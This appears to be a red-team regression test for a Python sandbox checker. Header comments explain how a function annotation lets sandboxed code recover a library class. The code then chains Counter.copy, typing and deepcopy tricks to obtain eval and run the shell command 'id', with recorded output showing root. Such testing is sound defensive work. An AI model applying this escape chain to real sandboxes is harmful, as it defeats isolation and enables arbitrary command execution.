# expect: reject dunder
# line: 23
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (third round), family A: an annotation naming a library class comes back through __annotations__

# Mechanism: an annotation is an allowed place for a library class (rule unbound), and f.__annotations__ / C.__annotations__ of a program def/class is an allowed dunder read; the dunder rule refuses it only when the annotations name type or an enum class, not a library class with Python methods: the class comes back by value (parameter annotation, f.__annotations__['a'])
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

def f(a: collections.Counter):                   # a parameter annotation
    pass

K = f.__annotations__["a"]                          # allowed dunder on a program def
T = K.copy(P)                                       # Counter.copy(P) -> P.__class__(P) -> builtin type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
